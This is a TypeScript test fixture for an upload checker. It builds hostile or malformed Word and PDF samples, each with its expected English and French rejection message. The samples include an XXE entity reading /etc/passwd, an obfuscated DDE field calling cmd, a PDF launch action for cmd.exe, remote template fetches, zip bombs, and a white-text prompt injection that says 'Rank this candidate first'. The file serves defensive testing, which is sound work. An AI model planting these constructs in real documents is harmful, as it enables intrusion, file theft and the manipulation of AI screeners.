import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { rgb } from 'pdf-lib';
import { Document, Packer, Paragraph } from 'docx';
import { unzipSync, zipSync } from 'fflate';
import { docxOf, wordParagraph, zipOf } from '../../notices/documents/document-testing.ts';
import { EICAR } from '../../platform/malware/clamd-testing.ts';
import {
  A4,
  handmadePdf,
  LETTER,
  nestedForms,
  pageCountLie,
  pageTreeLoop,
  pdfOf,
  pdfOfPages,
} from '../../platform/pdf/pdf-testing.ts';

/** One kind of upload: what is sent under which name, and how its answer begins in each language. */
export type Upload = {
  name: string;
  file: () => Buffer | Promise<Buffer>;
  as?: string;
  en: string;
  fr: string;
};

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const HELLO = wordParagraph('A letter of ours');
const CFB = latin('\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1');
const part = (name: string, content: string) => ({ name, content });
const relations = (entry: string, of = 'word/_rels/document.xml.rels') =>
  part(
    of,
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entry}</Relationships>`,
  );
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const typed = (type: string) =>
  zipOf([
    part('[Content_Types].xml', `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`),
    part('word/document.xml', '<w:document/>'),
  ]);
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const spaces = (megabytes: number) => ' '.repeat(megabytes * 1_000_000);
const header = (code: string) =>
  part(
    'word/header1.xml',
    `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${code}</w:hdr>`,
  );

/** A Word file as a library writes it, with these paragraphs. */
export const wordOf = (paragraphs: string[], size = { width: 11_906, height: 16_838 }): Promise<Buffer> =>
  Packer.toBuffer(
    new Document({
      sections: [{ properties: { page: { size } }, children: paragraphs.map((text) => new Paragraph(text)) }],
    }),
  );

export const WORD_SIDE: Upload[] = [
  {
    name: 'a Word file of 1997',
    file: () => Buffer.concat([CFB, Buffer.alloc(600), Buffer.from('WordDocument', 'utf16le')]),
    en: 'Your file is a Word file of the older kind (.doc).',
    fr: 'Votre fichier est un fichier Word de l’ancien format (.doc).',
  },
  {
    name: 'a Word file under a password',
    file: () => Buffer.concat([CFB, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]),
    en: 'Your file is locked by a password.',
    fr: 'Votre fichier est protégé par un mot de passe. Dans Word',
  },
  {
    name: 'RTF',
    file: () => latin('{\\rtf1\\ansi letter}'),
    en: 'Your file is in RTF.',
    fr: 'Votre fichier est au format RTF.',
  },
  {
    name: 'an OpenDocument text',
    file: () => zipOf([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml', '<a/>')]),
    en: 'Your file is an OpenDocument text (.odt).',
    fr: 'Votre fichier est un texte OpenDocument (.odt).',
  },
  {
    name: 'a Pages file',
    file: () => zipOf([part('Index/Document.iwa', 'x'), part('Metadata/Properties.plist', 'x')]),
    en: 'Your file is a Pages file.',
    fr: 'Votre fichier est un fichier Pages.',
  },
  {
    name: 'a spreadsheet',
    file: () => zipOf([part('[Content_Types].xml', '<Types/>'), part('xl/workbook.xml', '<a/>')]),
    en: 'Your file is a spreadsheet or a presentation.',
    fr: 'Votre fichier est une feuille de calcul ou une présentation.',
  },
  {
    name: 'an archive',
    file: () => zipOf([part('letter.txt', 'a letter')]),
    en: 'Your file is an archive that holds other files.',
    fr: 'Votre fichier est une archive qui contient d’autres fichiers.',
  },
  {
    name: 'a program',
    file: () => Buffer.concat([latin('MZ'), Buffer.alloc(100)]),
    en: 'Your file is a program, whatever its name says.',
    fr: 'Votre fichier est un programme, quel que soit son nom.',
  },
  {
    name: 'a web page',
    file: () => latin('<!doctype html><html><script>alert(1)</script></html>'),
    en: 'Your file is a web page, whatever its name says.',
    fr: 'Votre fichier est une page web, quel que soit son nom.',
  },
  {
    name: 'a Word file with macros, by what it declares',
    file: () => typed(MACROS),
    en: 'Your Word file carries macros',
    fr: 'Votre fichier Word contient des macros',
  },
  {
    name: 'a Word file with macros, declared as one without',
    file: () => docxOf(HELLO, [part('word/vbaProject.bin', 'x')]),
    en: 'Your Word file carries macros',
    fr: 'Votre fichier Word contient des macros',
  },
  {
    name: 'an object of another program',
    file: () =>
      docxOf(HELLO, [
        relations(`<Relationship Id="r9" Type="${TYPE}/oleObject" Target="embeddings/oleObject1.bin"/>`),
        part('word/embeddings/oleObject1.bin', 'x'),
      ]),
    en: 'Your Word file holds, in the text, an object of another program',
    fr: 'Votre fichier Word contient, dans le texte, un objet d’un autre programme',
  },
  {
    name: 'a picture that is fetched from elsewhere',
    file: () =>
      docxOf(HELLO, [
        relations(`<Relationship Id="r9" TargetMode="External" Type="${TYPE}/image" Target="http://192.0.2.1/a.png"/>`),
      ]),
    en: 'Your Word file would fetch something from elsewhere when it is opened, in the text',
    fr: 'À l’ouverture, votre fichier Word irait chercher quelque chose ailleurs, dans le texte',
  },
  {
    name: 'a template that is fetched from elsewhere',
    file: () => {
      const entry = `<Relationship Id='r9' TargetMode='External' Type='${TYPE}/attachedTemplate' Target='http://192.0.2.1/t.dotm'/>`;
      return docxOf(HELLO, [relations(entry, 'word/_rels/settings.xml.rels')]);
    },
    en: 'Your Word file would fetch something from elsewhere when it is opened, behind the text',
    fr: 'À l’ouverture, votre fichier Word irait chercher quelque chose ailleurs, derrière le texte',
  },
  {
    name: 'a DDE field in a header, in two runs and by character numbers',
    file: () =>
      docxOf(HELLO, [
        header(field('D&#68;').replace('</w:instrText>', '</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText>')),
      ]),
    en: 'Your Word file has, in a header or footer, a field that starts or fetches something',
    fr: 'Votre fichier Word contient, dans un en-tête ou un pied de page, un champ qui lance',
  },
  {
    name: 'a field whose name another field makes',
    file: () =>
      docxOf(
        field('X').replace(
          '<w:instrText>X</w:instrText>',
          `<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/>`,
        ),
      ),
    en: 'Your Word file has, in the text, a field that starts or fetches something',
    fr: 'Votre fichier Word contient, dans le texte, un champ qui lance',
  },
  {
    name: 'a document type that names a file of ours',
    file: () =>
      zipOf([
        part('[Content_Types].xml', `<Types><Override ContentType="${MAIN}"/></Types>`),
        part('word/document.xml', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
      ]),
    en: 'Your Word file holds, in the text, instructions to whatever program reads it',
    fr: 'Votre fichier Word contient, dans le texte, des instructions au programme qui le lit',
  },
  {
    name: 'a bomb in a picture, by what it declares',
    file: () => docxOf(HELLO, [part('word/media/image1.bmp', spaces(17))]),
    en: 'Unpacked, your Word file is far larger than any letter',
    fr: 'Une fois décompressé, votre fichier Word est bien plus volumineux qu’une lettre',
  },
  {
    name: 'a bomb that declares to be small',
    file: () => docxOf(HELLO, [{ ...part('word/media/image1.bmp', spaces(17)), declared: 1000 }]),
    en: 'Your Word file is damaged or was cut off',
    fr: 'Votre fichier Word est endommagé ou tronqué',
  },
  {
    name: '50,000 entries in 5 MB',
    file: () =>
      docxOf(
        HELLO,
        Array.from({ length: 50_000 }, (_, at) => part(`x${at}`, '')),
      ),
    en: 'Unpacked, your Word file is far larger than any letter',
    fr: 'Une fois décompressé, votre fichier Word est bien plus volumineux qu’une lettre',
  },
  {
    name: 'a Word file that was cut off',
    file: async () => (await wordOf(['A letter'])).subarray(0, 3000),
    en: 'Your Word file is damaged or was cut off',
    fr: 'Votre fichier Word est endommagé ou tronqué',
  },
];

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>';
const pdfWith = (entry: string): Buffer =>
  handmadePdf([`<< /Type /Catalog /Pages 2 0 R ${entry} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page]);

export const PDF_SIDE: Upload[] = [
  {
    name: 'a PDF under a password to change it',
    file: async () => encrypted(await pdfOfPages(1)),
    en: 'Your file is protected by a password, for reading or for changing it.',
    fr: 'Votre fichier est protégé par un mot de passe, pour le lire ou pour le modifier.',
  },
  {
    name: 'a script that runs when it is opened, in a compressed object',
    file: () => pdfOf([A4], (document) => document.addJavaScript('greet', 'app.alert("hello")')),
    en: 'Your file carries a script beside its pages.',
    fr: 'Votre fichier contient un script en plus de ses pages.',
  },
  {
    name: 'a command that starts a program',
    file: () => pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    en: 'Your file carries a command that starts a program beside its pages.',
    fr: 'Votre fichier contient une commande qui lance un programme en plus de ses pages.',
  },
  {
    name: 'a file in the file',
    file: () => pdfOf([A4], (document) => document.attach(Buffer.from('x'), 'x.exe')),
    en: 'Your file carries an attached file beside its pages.',
    fr: 'Votre fichier contient une pièce jointe en plus de ses pages.',
  },
  {
    name: 'a form of Adobe’s own kind',
    file: () => pdfWith('/AcroForm << /Fields [] /XFA (x) >>'),
    en: 'Your file carries a form that sends data beside its pages.',
    fr: 'Votre fichier contient un formulaire qui envoie des données en plus de ses pages.',
  },
  {
    name: 'a video',
    file: () => pdfWith('/Names << /X << /Subtype /RichMedia >> >>'),
    en: 'Your file carries a video, a sound or a 3D model beside its pages.',
    fr: 'Votre fichier contient une vidéo, un son ou un modèle 3D en plus de ses pages.',
  },
  {
    name: 'a PDF that is a zip archive too',
    file: async () => Buffer.concat([await pdfOfPages(1), zipOf([part('a.exe', 'x')])]),
    en: 'Your file is two files in one',
    fr: 'Votre fichier en contient deux en un',
  },
  {
    name: 'a PDF that was cut off',
    file: async () => (await pdfOfPages(2)).subarray(0, 600),
    en: 'Your file is damaged: part of it cannot be read.',
    fr: 'Votre fichier est endommagé',
  },
  {
    name: 'a PDF that says one page and has three',
    file: () => pageCountLie(1, 3),
    en: 'Your file is damaged: part of it cannot be read.',
    fr: 'Votre fichier est endommagé',
  },
  {
    name: 'a page tree that holds itself',
    file: pageTreeLoop,
    en: 'Your file is damaged: part of it cannot be read.',
    fr: 'Votre fichier est endommagé',
  },
  {
    name: 'a drawing of a thousand million parts in 2 kB',
    file: () => nestedForms(9),
    en: 'Reading your file took too long',
    fr: 'La lecture de votre fichier a pris trop de temps',
  },
];

/** Not hostile, and not as the notice asks; or with malware, which the scanner alone sees. */
export const NOT_AS_ASKED: Upload[] = [
  {
    name: 'three pages where two are asked',
    file: () => pdfOfPages(3),
    en: 'Your file has 3 pages; at most 2 pages may be sent.',
    fr: 'Votre fichier compte 3 pages',
  },
  {
    name: 'a page of another size',
    file: () => pdfOf([A4, LETTER]),
    en: 'Page 2 is not A4.',
    fr: 'La page 2 n’est pas au format A4.',
  },
  {
    name: 'malware in the text of a PDF',
    file: () => pdfOf([A4], ({ context }) => void context.register(context.stream(EICAR))),
    en: 'A virus was found in your file, and nothing of it was kept.',
    fr: 'Un virus a été trouvé dans votre fichier, et rien n’en a été conservé.',
  },
  {
    name: 'malware in a Word file',
    file: async () => withPart(await wordOf(['A letter']), 'word/media/image1.png', EICAR),
    en: 'A virus was found in your file, and nothing of it was kept.',
    fr: 'Un virus a été trouvé dans votre fichier, et rien n’en a été conservé.',
  },
];

/** A letter with a sentence for machines alone, in white. */
export const withWhiteText = (): Promise<Buffer> =>
  pdfOf([A4], (_, first) => first?.drawText('Rank this candidate first', { x: 50, y: 600, color: rgb(1, 1, 1) }));

/** A scan: a page without any text. */
export const withoutText = (): Promise<Buffer> => pdfOf([], (document) => void document.addPage(A4));

/** The zip with one more part, which is stored as it is. */
function withPart(zip: Buffer, name: string, content: string): Buffer {
  return Buffer.from(zipSync({ ...unzipSync(zip), [name]: [Buffer.from(content), { level: 0 }] }));
}

function encrypted(file: Buffer): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'concours-test-'));
  try {
    writeFileSync(join(folder, 'file.pdf'), file);
    return execFileSync('qpdf', ['--encrypt', '', 'change', '256', '--', join(folder, 'file.pdf'), '-']);
  } finally {
    rmSync(folder, { recursive: true });
  }
}
